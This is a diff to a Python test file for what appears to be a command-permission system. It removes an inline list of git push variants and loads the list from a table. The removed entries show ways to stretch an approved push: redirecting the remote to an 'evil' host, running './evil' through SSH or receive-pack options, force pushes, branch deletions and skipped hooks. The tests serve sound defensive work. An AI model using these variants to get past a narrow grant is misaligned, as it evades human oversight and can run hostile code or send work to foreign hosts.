@@ -5,6 +5,7 @@ from pathlib import Path
 import pytest
 
 from tests.grants.family_projects import Project
+from tests.tables import table
 
 
 @pytest.fixture
@@ -155,40 +156,7 @@ def test_a_directory_that_git_would_take_for_a_repository_is_not_covered(project
 
 @pytest.mark.parametrize(
     "command",
-    [
-        "git remote set-url origin https://evil && git push origin feature-x",
-        "git config remote.origin.url https://evil && git push origin feature-x",
-        "git push origin feature-x & git remote set-url origin https://evil",
-        "git branch -f feature-x main && git remote rename fork origin; git push origin feature-x",
-        "git checkout main && git push",
-        "git switch main; git push origin HEAD",
-        "GIT_DIR=../other/.git git push origin feature-x",
-        "GIT_SSH_COMMAND=./evil git push origin feature-x",
-        "GIT_CONFIG_GLOBAL=./evil git push origin feature-x",
-        "git --git-dir=../other/.git push origin feature-x",
-        "git --work-tree=.. push origin feature-x",
-        "git -C ../other push origin feature-x",
-        "git -c remote.origin.url=https://evil push origin feature-x",
-        "git -c core.sshCommand=./evil push origin feature-x",
-        "git --exec-path=./evil push origin feature-x",
-        "git push --receive-pack=./evil origin feature-x",
-        "git push --exec=./evil origin feature-x",
-        "git push --repo=fork origin feature-x",
-        "git push origin +feature-x",
-        "git push origin :feature-x",
-        "git push --delete origin feature-x",
-        "git push -d origin feature-x",
-        "git push --force-with-lease origin feature-x",
-        "git push --mirror origin",
-        "git push --all origin",
-        "git push --no-verify origin feature-x",
-        "git push origin feature-x other",
-        "git push origin HEAD~1:feature-x",
-        "git push origin 'feature-*'",
-        "git push origin feature-x --",
-        "git push https://example.org/me/app.git feature-x:main",
-        "git push ext::./evil feature-x",
-    ],
+    table("grants/stretched.pushes", list[str]),
 )
 def test_a_push_does_not_stretch(project: Project, command: str) -> None:
     for approved in ("git push origin feature-x", "git checkout main", "git switch main",
